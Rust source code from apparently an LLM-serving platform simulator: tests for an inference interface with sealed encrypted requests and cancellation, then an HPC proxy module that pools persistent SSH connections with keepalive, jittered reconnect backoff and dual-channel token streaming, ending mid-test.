    fn e2ee_sealed_request_roundtrip() {
        // §7.1.4: sealed body in, sealed body out; plaintext only on the
        // platform side.
        let engine = crate::llmserver::Engine::start(
            Box::new(crate::llmserver::SimBackend::by_name("intel-neural-7b", 0.0).unwrap()),
            crate::llmserver::EngineConfig::default(),
            Registry::new(),
        );
        let server = crate::llmserver::LlmHttpServer::start(engine).unwrap();
        let key = crate::sshsim::KeyPair::generate(0x2EE);
        let (ci, sched) = make(vec![svc("intel-neural-7b")]);
        let ci = ci.with_platform_key(key.clone());
        sched.routing.upsert(crate::scheduler::Instance {
            job_id: 1,
            service: "intel-neural-7b".into(),
            node: "n".into(),
            port: server.server.addr.port(),
            addr: server.server.addr.to_string(),
            ready: true,
            draining: false,
            scavenger: false,
            started_us: 0,
        });
        let plaintext = Json::obj()
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", "SECRET count")],
            )
            .dump();
        let sealed = e2ee::seal_request(&key, [5u8; 16], plaintext.as_bytes());
        let (code, out) = run(&ci, "infer intel-neural-7b", &sealed);
        assert_eq!(code, EXIT_OK);
        let (status, body) = parse_reply(&out);
        assert_eq!(status, 200);
        // The reply is sealed: not parseable JSON, no plaintext content.
        assert!(e2ee::is_sealed(&body));
        assert!(!body.windows(5).any(|w| w == b"1 2 3"));
        let plain = e2ee::open_response(&key, &body).unwrap();
        let j = Json::parse(std::str::from_utf8(&plain).unwrap()).unwrap();
        assert_eq!(
            j.at(&["choices", "0", "message", "content"]).unwrap().as_str().unwrap(),
            "1 2 3 4 5 6 7 8 9 10"
        );
    }

    #[test]
    fn deadline_bounds_the_cold_start_queue_wait() {
        // No instance ever appears; queue_timeout is long but the
        // request's own budget is short — the interface must answer 504
        // at the budget, not hold the request for the full queue wait.
        let (ci, _sched) = make(vec![svc("m")]);
        let ci = ci.with_queue_timeout(std::time::Duration::from_secs(30));
        let body = Json::obj()
            .set("messages", vec![Json::obj().set("role", "user").set("content", "x")])
            .set("deadline_ms", 120u64)
            .dump();
        let t = std::time::Instant::now();
        let (code, out) = run(&ci, "infer m", body.as_bytes());
        assert_eq!(code, EXIT_NO_INSTANCE);
        assert_eq!(parse_reply(&out).0, 504, "{}", String::from_utf8_lossy(&out));
        assert!(t.elapsed() < std::time::Duration::from_secs(5), "{:?}", t.elapsed());
    }

    #[test]
    fn builders_compose_without_resetting_state() {
        // The old Arc-consuming builders rebuilt the struct through an
        // `Arc::try_unwrap` fallback that silently reset the RNG and could
        // drop sibling settings; the plain builders must compose.
        let (ci, _) = make(vec![]);
        let key = crate::sshsim::KeyPair::generate(7);
        let ci = ci
            .with_queue_timeout(std::time::Duration::from_millis(5))
            .with_platform_key(key);
        assert_eq!(ci.queue_timeout, std::time::Duration::from_millis(5));
        assert!(ci.platform_key.is_some(), "platform key lost by later builder");
    }

    #[test]
    fn out_failure_stops_forwarding_and_cancels_engine() {
        // The SSH channel dying mid-stream surfaces here as `out` failing;
        // the interface must stop reading from the instance, which cascades
        // into the engine freeing the batch slot (finish_reason "cancelled").
        let engine_metrics = Registry::new();
        let engine = crate::llmserver::Engine::start(
            Box::new(crate::llmserver::SimBackend::by_name("mixtral-8x7b", 1.0).unwrap()),
            crate::llmserver::EngineConfig::default(),
            engine_metrics.clone(),
        );
        let server = crate::llmserver::LlmHttpServer::start(engine).unwrap();
        let slurm = Arc::new(Mutex::new(SlurmSim::new(ClusterSpec::kisski())));
        let sched = Arc::new(ServiceScheduler::new(
            slurm,
            SimClock::new(),
            MockLauncher::new(),
            vec![svc("mixtral-8x7b")],
            SchedulerConfig::default(),
            Registry::new(),
        ));
        let ci_metrics = Registry::new();
        let ci = CloudInterface::new(sched.clone(), ci_metrics.clone())
            .with_queue_timeout(std::time::Duration::ZERO);
        sched.routing.upsert(crate::scheduler::Instance {
            job_id: 1,
            service: "mixtral-8x7b".into(),
            node: "n".into(),
            port: server.server.addr.port(),
            addr: server.server.addr.to_string(),
            ready: true,
            draining: false,
            scavenger: false,
            started_us: 0,
        });
        let body = Json::obj()
            .set("messages", vec![Json::obj().set("role", "user").set("content", "count")])
            .set("stream", true)
            .dump();
        let mut writes = 0usize;
        let mut out = |_c: &[u8]| -> Result<()> {
            writes += 1;
            if writes > 2 {
                anyhow::bail!("channel closed by client")
            }
            Ok(())
        };
        let code = ci.exec("/ci", "infer mixtral-8x7b", body.as_bytes(), &mut out);
        assert_eq!(code, EXIT_OK);
        assert_eq!(
            ci_metrics.counter("ci_cancelled_total", &[("service", "mixtral-8x7b")]).get(),
            1,
            "interface did not record the cancellation"
        );
        // The disconnect propagated to the instance: the engine reaped the
        // slot instead of generating the remaining ~18 tokens.
        assert!(
            engine_metrics.wait_for_metric(
                "llm_cancelled_total{model=\"mixtral-8x7b\"} 1",
                std::time::Duration::from_secs(5)
            ),
            "engine never saw the disconnect: {}",
            engine_metrics.render()
        );
    }

    #[test]
    fn e2ee_rejected_when_not_enabled_or_garbled() {
        let (ci, _) = make(vec![svc("intel-neural-7b")]);
        let key = crate::sshsim::KeyPair::generate(0x2EE);
        let sealed = e2ee::seal_request(&key, [1u8; 16], b"{}");
        // Platform key not configured -> 400.
        let (code, out) = run(&ci, "infer intel-neural-7b", &sealed);
        assert_eq!(code, EXIT_BAD_REQUEST);
        assert_eq!(parse_reply(&out).0, 400);
        // Wrong key -> 400.
        let ci = ci.with_platform_key(crate::sshsim::KeyPair::generate(0xFFF));
        let (code, _) = run(&ci, "infer intel-neural-7b", &sealed);
        assert_eq!(code, EXIT_BAD_REQUEST);
    }
}
