//! The HPC Proxy (§5.4): the web server's only bridge to the cluster.
//!
//! The paper's proxy keeps **one** persistent SSH connection and pushes all
//! traffic through it — the ~200 RPS ceiling of Table 2. This module breaks
//! that ceiling with a **pool of N persistent multiplexed connections**
//! (OpenSSH `ControlMaster`-style masters, see DESIGN.md §Connection pool):
//!
//! - connection 0 is the **control lane**: keepalive pings and the
//!   scheduler `tick` stay here, exactly once per interval, so bulk token
//!   streams never head-of-line-block them;
//! - connections 1..N are **data lanes** for `infer`/`probe` traffic,
//!   placed least-loaded-first with a per-connection channel cap
//!   (`MaxSessions`-style): a lane at its cap falls over to the next, and
//!   only a fully saturated pool borrows the control lane;
//! - every pool member reconnects independently (backoff + keepalive
//!   detection), and each one authenticates with the same pinned key, so
//!   the ForceCommand circuit breaker holds per connection.
//!
//! `pool_size = 1` reproduces the paper's single-connection proxy exactly:
//! one connection carries control and data alike.

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::{anyhow, Result};

use crate::interface::parse_reply;
use crate::sshsim::{BulkChannel, KeyPair, SshClient, EXIT_CANCELLED, EXIT_CHANNEL_REJECTED};
use crate::util::clock::{Clock, WallClock};
use crate::util::http::{Handler, Reply, Request, Response, Server};
use crate::util::json::Json;
use crate::util::metrics::Registry;
use crate::util::retry::RetryPolicy;

/// Per-member backoff seed: distinct per (lane kind, pool index), so after
/// a full SSH outage every member retries on its own jittered schedule
/// instead of thundering-herding the server in lockstep.
fn backoff_seed(kind: u64, idx: usize) -> u64 {
    (0xB0FF_5EED ^ kind.rotate_left(32)) ^ (idx as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15)
}

/// Proxy tuning.
#[derive(Debug, Clone)]
pub struct ProxyConfig {
    /// Keepalive/tick interval (the paper uses 5 s).
    pub keepalive: Duration,
    /// Base delay of the jittered reconnect backoff (DESIGN.md §Failure
    /// policy): each member draws decorrelated-jitter delays from
    /// `[base, 8 × base]` on its own seeded schedule.
    pub reconnect_backoff: Duration,
    /// Emulated ESX↔HPC wire time per SSH frame (benches only; 0 = off).
    pub link_frame_delay: Duration,
    /// Persistent SSH connections in the pool. 1 = the paper's baseline.
    pub pool_size: usize,
    /// Per-connection concurrent-channel cap used for placement (OpenSSH
    /// `MaxSessions` is ~10 by default).
    pub max_channels_per_conn: usize,
    /// Dual-channel streaming: exec setup/cancel/exit stay on the pooled
    /// control lanes; token payloads stream over dedicated bulk
    /// connections. Off by default (single-channel is the baseline and
    /// byte-identical to dual-channel at the consumer).
    pub dual_channel: bool,
    /// Bulk (token-delivery) connections when `dual_channel` is on.
    pub bulk_lanes: usize,
}

impl Default for ProxyConfig {
    fn default() -> ProxyConfig {
        ProxyConfig {
            keepalive: Duration::from_secs(5),
            reconnect_backoff: Duration::from_millis(200),
            link_frame_delay: Duration::ZERO,
            pool_size: 1,
            max_channels_per_conn: 8,
            dual_channel: false,
            bulk_lanes: 2,
        }
    }
}

/// One pooled SSH connection and its lifecycle state.
struct PoolMember {
    client: Mutex<Option<Arc<SshClient>>>,
    reconnects: AtomicU64,
    /// A background reconnect for this member is in flight.
    reconnecting: AtomicBool,
}

/// One bulk (token-delivery) lane and its lifecycle state.
struct BulkMember {
    chan: Mutex<Option<Arc<BulkChannel>>>,
    /// A background reconnect for this lane is in flight.
    reconnecting: AtomicBool,
}

/// Process-global bulk-lane id generator: every (re)connect gets a fresh
/// id, so a stale lane's server-side cleanup can never deregister its
/// replacement.
static BULK_ID_GEN: AtomicU64 = AtomicU64::new(1);

/// Connection-pool manager + request forwarder.
pub struct HpcProxy {
    ssh_addr: String,
    key: KeyPair,
    cfg: ProxyConfig,
    members: Vec<PoolMember>,
    /// Token-delivery lanes (empty unless `cfg.dual_channel`).
    bulk_members: Vec<BulkMember>,
    stop: Arc<AtomicBool>,
    /// Total reconnects detected by the keepalive, across all members.
    pub reconnects: AtomicU64,
    /// Placements that saturated every data lane and borrowed capacity.
    pub overflows: AtomicU64,
    metrics: Registry,
    /// Time source for the keepalive interval, reconnect backoff, latency
    /// accounting, and the emulated wire delay on pooled connections.
    clock: Arc<dyn Clock>,
}

impl HpcProxy {
    pub fn connect(
        ssh_addr: &str,
        key: KeyPair,
        cfg: ProxyConfig,
        metrics: Registry,
    ) -> Result<Arc<HpcProxy>> {
        let clock: Arc<dyn Clock> = WallClock::new();
        HpcProxy::connect_with_clock(ssh_addr, key, cfg, metrics, clock)
    }

    /// Like [`HpcProxy::connect`] with an explicit time source for every
    /// delay the proxy takes (keepalive, backoff, wire emulation).
    pub fn connect_with_clock(
        ssh_addr: &str,
        key: KeyPair,
        cfg: ProxyConfig,
        metrics: Registry,
        clock: Arc<dyn Clock>,
    ) -> Result<Arc<HpcProxy>> {
        let n = cfg.pool_size.max(1);
        let members = (0..n)
            .map(|_| PoolMember {
                client: Mutex::new(None),
                reconnects: AtomicU64::new(0),
                reconnecting: AtomicBool::new(false),
            })
            .collect();
        let n_bulk = if cfg.dual_channel { cfg.bulk_lanes.max(1) } else { 0 };
        let bulk_members = (0..n_bulk)
            .map(|_| BulkMember {
                chan: Mutex::new(None),
                reconnecting: AtomicBool::new(false),
            })
            .collect();
        let proxy = Arc::new(HpcProxy {
            ssh_addr: ssh_addr.to_string(),
            key,
            cfg,
            members,
            bulk_members,
            stop: Arc::new(AtomicBool::new(false)),
            reconnects: AtomicU64::new(0),
            overflows: AtomicU64::new(0),
            metrics,
            clock,
        });
        // The control connection must come up; data lanes are best-effort
        // (the keepalive loop keeps retrying them). Sequential connects so
        // member order matches the server's accept order.
        proxy.ensure_connected(0)?;
        for idx in 1..proxy.members.len() {
            if let Err(e) = proxy.ensure_connected(idx) {
                crate::log_warn!("hpcproxy", "pool member {idx} connect failed: {e}");
            }
        }
        // Bulk lanes come up best-effort too: with none alive the proxy
        // falls back to single-channel streaming.
        for idx in 0..proxy.bulk_members.len() {
            if let Err(e) = proxy.ensure_bulk_connected(idx) {
                crate::log_warn!("hpcproxy", "bulk lane {idx} connect failed: {e}");
            }
        }
        // Keepalive thread: ping every member + scheduler tick (connection
        // 0 only, once per interval); reconnect members on failure.
        let p = proxy.clone();
        std::thread::spawn(move || p.keepalive_loop());
        Ok(proxy)
    }

    fn keepalive_loop(self: Arc<Self>) {
        while !self.stop.load(Ordering::SeqCst) {
            self.clock.sleep(self.cfg.keepalive);
            if self.stop.load(Ordering::SeqCst) {
                break;
            }
            for idx in 0..self.members.len() {
                let healthy = match self.current_client(idx) {
                    Some(c) => {
                        // Ping for liveness; connection 0's ping doubles as
                        // the scheduler trigger (exactly one tick/interval).
                        let ok = c.ping().is_ok();
                        if ok && idx == 0 {
                            let _ = c.exec("tick", b"");
                        }
                        ok
                    }
                    None => false,
                };
                // Reconnect in the background so one dead member's retry
                // backoff never stalls pings/ticks for the others (at most
                // one reconnect thread per member).
                if !healthy && !self.members[idx].reconnecting.swap(true, Ordering::SeqCst) {
                    self.metrics.counter("proxy_reconnects_total", &[]).inc();
                    self.reconnects.fetch_add(1, Ordering::SeqCst);
                    self.members[idx].reconnects.fetch_add(1, Ordering::SeqCst);
                    let p = self.clone();
                    std::thread::spawn(move || {
                        let _ = p.reconnect(idx);
                        p.members[idx].reconnecting.store(false, Ordering::SeqCst);
                    });
                }
            }
            // Bulk lanes have no ping traffic of their own (their liveness
            // shows up as reader-thread death); revive dead ones in the
            // background like any other pool member.
            for idx in 0..self.bulk_members.len() {
                if self.current_bulk(idx).is_some() {
                    continue;
                }
                if !self.bulk_members[idx].reconnecting.swap(true, Ordering::SeqCst) {
                    self.metrics.counter("proxy_bulk_reconnects_total", &[]).inc();
                    self.reconnects.fetch_add(1, Ordering::SeqCst);
                    let p = self.clone();
                    std::thread::spawn(move || {
                        let _ = p.reconnect_bulk(idx);
                        p.bulk_members[idx].reconnecting.store(false, Ordering::SeqCst);
                    });
                }
            }
        }
    }

    fn current_client(&self, idx: usize) -> Option<Arc<SshClient>> {
        let guard = self.members[idx].client.lock().unwrap();
        guard.as_ref().filter(|c| c.is_alive()).cloned()
    }

    fn ensure_connected(&self, idx: usize) -> Result<Arc<SshClient>> {
        if let Some(c) = self.current_client(idx) {
            return Ok(c);
        }
        self.reconnect(idx)
    }

    /// The shared reconnect budget: 3 attempts, decorrelated-jitter delays
    /// in `[reconnect_backoff, 8 × reconnect_backoff]`.
    fn reconnect_policy(&self) -> RetryPolicy {
        RetryPolicy::new(
            3,
            self.cfg.reconnect_backoff,
            self.cfg.reconnect_backoff.saturating_mul(8),
        )
    }

    fn reconnect(&self, idx: usize) -> Result<Arc<SshClient>> {
        let mut guard = self.members[idx].client.lock().unwrap();
        if let Some(c) = guard.as_ref().filter(|c| c.is_alive()) {
            return Ok(c.clone());
        }
        let policy = self.reconnect_policy();
        let mut backoff = policy.backoff(backoff_seed(0, idx));
        let mut last_err = anyhow!("unreachable");
        for _ in 0..policy.max_attempts {
            match SshClient::connect_with_clock(
                &self.ssh_addr,
                &self.key,
                self.cfg.link_frame_delay,
                self.clock.clone(),
            ) {
                Ok(c) => {
                    let c = Arc::new(c);
                    *guard = Some(c.clone());
                    crate::log_info!("hpcproxy", "ssh connection {idx} (re)established");
                    return Ok(c);
                }
                Err(e) => {
                    last_err = e;
                    self.clock.sleep(backoff.next_delay());
                }
            }
        }
        Err(last_err)
    }

    fn current_bulk(&self, idx: usize) -> Option<Arc<BulkChannel>> {
        let guard = self.bulk_members[idx].chan.lock().unwrap();
        guard.as_ref().filter(|b| b.is_alive()).cloned()
    }

    fn ensure_bulk_connected(&self, idx: usize) -> Result<Arc<BulkChannel>> {
        if let Some(b) = self.current_bulk(idx) {
            return Ok(b);
        }
        self.reconnect_bulk(idx)
    }

    fn reconnect_bulk(&self, idx: usize) -> Result<Arc<BulkChannel>> {
        let mut guard = self.bulk_members[idx].chan.lock().unwrap();
        if let Some(b) = guard.as_ref().filter(|b| b.is_alive()) {
            return Ok(b.clone());
        }
        let policy = self.reconnect_policy();
        let mut backoff = policy.backoff(backoff_seed(1, idx));
        let mut last_err = anyhow!("unreachable");
        for _ in 0..policy.max_attempts {
            // Fresh id per attempt: the server keys its registry by id, so
            // a stale lane's cleanup can never evict this replacement.
            let id = BULK_ID_GEN.fetch_add(1, Ordering::SeqCst);
            match BulkChannel::connect_with_clock(
                &self.ssh_addr,
                &self.key,
                id,
                self.cfg.link_frame_delay,
                self.clock.clone(),
            ) {
                Ok(b) => {
                    let b = Arc::new(b);
                    *guard = Some(b.clone());
                    crate::log_info!("hpcproxy", "bulk lane {idx} (re)established (id {id})");
                    return Ok(b);
                }
                Err(e) => {
                    last_err = e;
                    self.clock.sleep(backoff.next_delay());
                }
            }
        }
        Err(last_err)
    }

    /// Pick the token-delivery lane for one dual-channel stream:
    /// least-loaded by active subchannels. `None` when no bulk lane is
    /// alive (the caller falls back to single-channel streaming).
    fn pick_bulk_lane(&self) -> Option<Arc<BulkChannel>> {
        let mut best: Option<(usize, Arc<BulkChannel>)> = None;
        for idx in 0..self.bulk_members.len() {
            let Some(b) = self.current_bulk(idx) else { continue };
            let load = b.active_subchannels();
            if best.as_ref().map_or(true, |(l, _)| load < *l) {
                best = Some((load, b));
            }
        }
        best.map(|(_, b)| b)
    }

    /// Pick the connection for a bulk (`infer`/`probe`) request.
    ///
    /// Least-loaded data lane below the channel cap first — so a lane at
    /// its cap falls over to the next one. Only when every data lane is
    /// saturated (or down) does traffic borrow the control connection;
    /// a fully saturated pool degrades to global least-loaded rather than
    /// queueing.
    fn pick_bulk(&self) -> Result<Arc<SshClient>> {
        let n = self.members.len();
        if n == 1 {
            return self.ensure_connected(0);
        }
        let cap = self.cfg.max_channels_per_conn.max(1);
        let mut best_under_cap: Option<(usize, Arc<SshClient>)> = None;
        let mut least_loaded: Option<(usize, Arc<SshClient>)> = None;
        for idx in 1..n {
            let Some(c) = self.current_client(idx) else { continue };
            let load = c.active_channels();
            if load < cap && best_under_cap.as_ref().map_or(true, |(l, _)| load < *l) {
                best_under_cap = Some((load, c.clone()));
            }
            if least_loaded.as_ref().map_or(true, |(l, _)| load < *l) {
                least_loaded = Some((load, c));
            }
        }
        if let Some((_, c)) = best_under_cap {
            return Ok(c);
        }
        // Saturation (a live lane at its cap) counts as overflow; lanes
        // merely being down is an outage, not capacity exhaustion.
        if least_loaded.is_some() {
            self.overflows.fetch_add(1, Ordering::Relaxed);
            self.metrics.counter("proxy_channel_overflow_total", &[]).inc();
        }
        if let Some(c) = self.current_client(0) {
            let load0 = c.active_channels();
            if load0 < cap || least_loaded.as_ref().map_or(true, |(l, _)| load0 < *l) {
                return Ok(c);
            }
        }
        if let Some((_, c)) = least_loaded {
            return Ok(c);
        }
        // Nothing alive at all: resurrect a data lane, else the control
        // connection (propagating its error if that fails too).
        if let Ok(c) = self.ensure_connected(1) {
            return Ok(c);
        }
        self.ensure_connected(0)
    }

    /// Advertised capacity: connections × channels per connection. The
    /// gateway uses this as the load-balancing weight for multi-proxy
    /// deployments (§7.1.5).
    pub fn capacity(&self) -> usize {
        self.members.len() * self.cfg.max_channels_per_conn.max(1)
    }

    /// Pool members currently holding a live connection.
    pub fn alive_connections(&self) -> usize {
        (0..self.members.len()).filter(|&i| self.current_client(i).is_some()).count()
    }

    /// Per-member in-flight channel counts (`None` = disconnected).
    pub fn member_loads(&self) -> Vec<Option<usize>> {
        (0..self.members.len())
            .map(|i| self.current_client(i).map(|c| c.active_channels()))
            .collect()
    }

    /// Bulk lanes currently holding a live connection (0 unless
    /// `dual_channel`).
    pub fn alive_bulk_lanes(&self) -> usize {
        (0..self.bulk_members.len()).filter(|&i| self.current_bulk(i).is_some()).count()
    }

    /// Per-bulk-lane in-flight subchannel counts (`None` = disconnected).
    pub fn bulk_lane_loads(&self) -> Vec<Option<usize>> {
        (0..self.bulk_members.len())
            .map(|i| self.current_bulk(i).map(|b| b.active_subchannels()))
            .collect()
    }

    pub fn stop(&self) {
        self.stop.store(true, Ordering::SeqCst);
    }

    /// Forward one inference call, buffered.
    pub fn infer(&self, service: &str, body: &[u8]) -> Result<(u16, Vec<u8>)> {
        let client = self.pick_bulk()?;
        let t0 = self.clock.now_us();
        let reply = client.exec(&format!("infer {service}"), body)?;
        if reply.exit_code == EXIT_CHANNEL_REJECTED {
            // Server-side MaxSessions refusal carries no status header;
            // surface it as an error instead of a fake 200.
            return Err(anyhow!("ssh channel rejected (server MaxSessions)"));
        }
        self.metrics
            .histogram("proxy_infer_seconds", &[("service", service)])
            .observe(self.clock.now_us().saturating_sub(t0) as f64 / 1e6);
        Ok(parse_reply(&reply.stdout)).map(|(s, b)| (s, b))
    }

    /// Forward one inference call, streaming chunks as they arrive. The
    /// first `status: ...` line is parsed out; everything after streams to
    /// `on_chunk`, whose return value says whether to keep consuming.
    ///
    /// When the caller (the gateway-facing SSE writer, usually) returns
    /// `false` — its own downstream socket died — the proxy closes the SSH
    /// channel (CHANNEL_CLOSE) and the lane's channel accounting drops
    /// immediately, so the freed capacity is placeable before the server
    /// has even unwound its handler.
    pub fn infer_stream(
        &self,
        service: &str,
        body: &[u8],
        mut on_chunk: impl FnMut(&[u8]) -> bool,
    ) -> Result<u16> {
        let client = self.pick_bulk()?;
        let mut header_buf: Vec<u8> = Vec::new();
        let mut status: Option<u16> = None;
        // Peel the `status: <code>\n\n` reply header off the stream; every
        // byte after it forwards opaquely. Shared by both stream modes so
        // the client-visible bytes are identical.
        let mut peel = |chunk: &[u8], on_chunk: &mut dyn FnMut(&[u8]) -> bool| -> bool {
            if status.is_none() {
                header_buf.extend_from_slice(chunk);
                if let Some(pos) = find_double_newline(&header_buf) {
                    let (code, _) = parse_reply(&header_buf[..pos + 2]);
                    status = Some(code);
                    if header_buf.len() > pos + 2 {
                        return on_chunk(&header_buf[pos + 2..]);
                    }
                    header_buf.clear();
                }
                true
            } else {
                on_chunk(chunk)
            }
        };
        let cmd = format!("infer {service}");
        let code = if self.cfg.dual_channel {
            match self.pick_bulk_lane() {
                Some(bulk) => {
                    // Dual-channel: ONE control frame sets the exec up,
                    // reply header + tokens + EOF ride the bulk lane, and
                    // only the exit status returns on control.
                    self.metrics
                        .counter("proxy_bulk_streams_total", &[("service", service)])
                        .inc();
                    client.exec_stream_bulk_ctl(&bulk, &cmd, body, |chunk| {
                        peel(chunk, &mut on_chunk)
                    })?
                }
                None => {
                    // No bulk lane alive: degrade to single-channel rather
                    // than failing the request.
                    self.metrics.counter("proxy_bulk_fallbacks_total", &[]).inc();
                    client.exec_stream_ctl(&cmd, body, |chunk| peel(chunk, &mut on_chunk))?
                }
            }
        } else {
            client.exec_stream_ctl(&cmd, body, |chunk| peel(chunk, &mut on_chunk))?
        };
        if code == EXIT_CHANNEL_REJECTED {
            // The refusal text never contains the header separator, so no
            // chunk has been emitted yet; fail cleanly.
            return Err(anyhow!("ssh channel rejected (server MaxSessions)"));
        }
        if code == EXIT_CANCELLED {
            self.metrics.counter("proxy_cancelled_total", &[("service", service)]).inc();
        }
        Ok(status.unwrap_or(200))
    }

    /// Probe a service's availability on the cluster.
    pub fn probe(&self, service: &str) -> Result<(u16, Json)> {
        let client = self.pick_bulk()?;
        let reply = client.exec(&format!("probe {service}"), b"")?;
        if reply.exit_code == EXIT_CHANNEL_REJECTED {
            return Err(anyhow!("ssh channel rejected (server MaxSessions)"));
        }
        let (status, body) = parse_reply(&reply.stdout);
        let j = Json::parse(std::str::from_utf8(&body).unwrap_or("{}"))
            .unwrap_or(Json::Null);
        Ok((status, j))
    }

    /// Manually trigger a scheduler run (used by tests/benches). Control
    /// traffic: always the control connection.
    pub fn tick(&self) -> Result<()> {
        let client = self.ensure_connected(0)?;
        client.exec("tick", b"")?;
        Ok(())
    }

    /// Round-trip time of one keepalive ping on the control connection.
    pub fn ping(&self) -> Result<Duration> {
        let client = self.ensure_connected(0)?;
        client.ping()
    }

    /// Expose the proxy as an HTTP upstream for the API gateway:
    /// `POST /infer/<service>` (stream passthrough), `GET /probe/<service>`,
    /// `GET /health`.
    pub fn into_http(self: Arc<Self>) -> Result<Server> {
        let handler: Handler = Arc::new(move |req: &Request| -> Reply {
            let proxy = self.clone();
            match (req.method.as_str(), req.path.as_str()) {
                ("GET", "/health") => {
                    let alive = proxy.alive_connections();
                    Reply::full(Response::json(
                        if alive > 0 { 200 } else { 503 },
                        &Json::obj()
                            .set("ssh_connected", alive > 0)
                            .set("pool_size", proxy.members.len())
                            .set("alive_connections", alive)
                            .set("capacity", proxy.capacity())
                            .set("dual_channel", proxy.cfg.dual_channel)
                            .set("bulk_lanes", proxy.bulk_members.len())
                            .set("alive_bulk_lanes", proxy.alive_bulk_lanes()),
                    ))
                }
                ("POST", path) if path.starts_with("/infer/") => {
                    let service = path.trim_start_matches("/infer/").to_string();
                    let is_stream = Json::parse(req.body_str())
                        .map(|j| j.bool_or("stream", false))
                        .unwrap_or(false);
                    let body = req.body.clone();
                    if is_stream {
                        Reply::sse(move |sink| {
                            // A failed sink write = our HTTP caller hung up;
                            // returning false closes the SSH channel.
                            let status = proxy.infer_stream(&service, &body, |chunk| {
                                sink.send(chunk).is_ok()
                            })?;
                            if status >= 400 {
                                // Error surfaced inside the stream envelope.
                                sink.send_event(
                                    &Json::obj().set("error", format!("upstream {status}")).dump(),
                                )?;
                            }
                            Ok(())
                        })
                    } else {
                        match proxy.infer(&service, &body) {
                            Ok((status, body)) => Reply::full(
                                Response::new(status)
                                    .header("content-type", "application/json")
                                    .with_body(&body),
                            ),
                            Err(e) => Reply::full(Response::json(
                                502,
                                &Json::obj().set("error", e.to_string()),
                            )),
                        }
                    }
                }
                ("POST", "/tick") => match proxy.tick() {
                    Ok(()) => Reply::full(Response::json(200, &Json::obj().set("ticked", true))),
                    Err(e) => Reply::full(Response::json(
                        502,
                        &Json::obj().set("error", e.to_string()),
                    )),
                },
                ("GET", path) if path.starts_with("/probe/") => {
                    let service = path.trim_start_matches("/probe/");
                    match proxy.probe(service) {
                        Ok((status, j)) => Reply::full(Response::json(status, &j)),
                        Err(e) => Reply::full(Response::json(
                            502,
                            &Json::obj().set("error", e.to_string()),
                        )),
                    }
                }
                _ => Reply::full(Response::json(404, &Json::obj().set("error", "not found"))),
            }
        });
        Server::start(handler)
    }
}

fn find_double_newline(buf: &[u8]) -> Option<usize> {
    buf.windows(2).position(|w| w == b"\n\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sshsim::{AuthorizedKey, AuthorizedKeys, CommandHandler, SshServer};

    /// A fake cloud interface that echoes the verbs it sees.
    fn fake_ci() -> Arc<dyn CommandHandler> {
        Arc::new(
            |_c: &str, orig: &str, stdin: &[u8], out: &mut dyn FnMut(&[u8]) -> Result<()>| {
                match orig.split_whitespace().next() {
                    Some("tick") => {
                        let _ = out(b"status: 200\n\n{\"ticked\":true}");
                        0
                    }
                    Some("infer") => {
                        let _ = out(b"status: 200\n\n");
                        let _ = out(b"echo:");
                        let _ = out(stdin);
                        0
                    }
                    Some("probe") => {
                        let _ = out(b"status: 200\n\n{\"status\":\"ok\"}");
                        0
                    }
                    _ => 2,
                }
            },
        )
    }

    /// Like `fake_ci`, but `infer` takes `delay` of wall time (to hold
    /// channels open) and streams its reply in chunks.
    fn slow_ci(delay: Duration) -> Arc<dyn CommandHandler> {
        Arc::new(
            move |_c: &str,
                  orig: &str,
                  stdin: &[u8],
                  out: &mut dyn FnMut(&[u8]) -> Result<()>| {
                match orig.split_whitespace().next() {
                    Some("tick") => {
                        let _ = out(b"status: 200\n\n{\"ticked\":true}");
                        0
                    }
                    Some("infer") => {
                        let _ = out(b"status: 200\n\n");
                        for _ in 0..10 {
                            std::thread::sleep(delay / 10);
                            if out(b"tok ").is_err() {
                                return 1;
                            }
                        }
                        let _ = out(stdin);
                        0
                    }
                    _ => 2,
                }
            },
        )
    }

    fn ssh_server_with(kp: &KeyPair, ci: Arc<dyn CommandHandler>) -> SshServer {
        let mut ak = AuthorizedKeys::new();
        ak.add(AuthorizedKey {
            fingerprint: kp.fingerprint(),
            force_command: Some("/ci".into()),
            options: vec![],
            comment: String::new(),
        });
        SshServer::start(ak, vec![kp.clone()], vec![("/ci".into(), ci)]).unwrap()
    }

    fn ssh_server(kp: &KeyPair) -> SshServer {
        ssh_server_with(kp, fake_ci())
    }

    fn fast_cfg() -> ProxyConfig {
        ProxyConfig {
            keepalive: Duration::from_millis(50),
            reconnect_backoff: Duration::from_millis(10),
            link_frame_delay: Duration::ZERO,
            pool_size: 1,
            max_channels_per_conn: 8,
            dual_channel: false,
            bulk_lanes: 2,
        }
    }

    fn pool_cfg(pool_size: usize, cap: usize) -> ProxyConfig {
        ProxyConfig { pool_size, max_channels_per_conn: cap, ..fast_cfg() }
    }

    #[test]
    fn pool_members_reconnect_on_divergent_jittered_schedules() {
        use crate::util::clock::SimClock;
        // Hand-built proxy: no keepalive thread (under a SimClock its
        // sleeping loop would spin virtual time forward), pointed at a
        // dead address so every connect attempt fails immediately and the
        // only virtual time spent is the backoff itself.
        let clock = SimClock::new();
        let proxy = HpcProxy {
            ssh_addr: "127.0.0.1:1".into(),
            key: KeyPair::generate(40),
            cfg: ProxyConfig { pool_size: 3, ..fast_cfg() },
            members: (0..3)
                .map(|_| PoolMember {
                    client: Mutex::new(None),
                    reconnects: AtomicU64::new(0),
                    reconnecting: AtomicBool::new(false),
                })
                .collect(),
            bulk_members: Vec::new(),
            stop: Arc::new(AtomicBool::new(false)),
            reconnects: AtomicU64::new(0),
            overflows: AtomicU64::new(0),
            metrics: Registry::new(),
            clock: clock.clone(),
        };
        let policy = proxy.reconnect_policy();
        let mut slept_us = Vec::new();
        for idx in 0..3 {
            let t0 = clock.now_us();
            assert!(proxy.reconnect(idx).is_err(), "nothing listens on port 1");
            slept_us.push(clock.now_us() - t0);
        }
        // Each member slept exactly its own seeded jitter schedule...
        for (idx, total) in slept_us.iter().enumerate() {
            let mut b = policy.backoff(backoff_seed(0, idx));
            let want: u64 = (0..policy.max_attempts)
                .map(|_| b.next_delay().as_micros() as u64)
                .sum();
            assert_eq!(*total, want, "member {idx} drifted off its schedule");
        }
        // ...and no two schedules coincide: after a full outage the pool
        // spreads its retries instead of thundering-herding the server.
        let schedule = |idx: usize| {
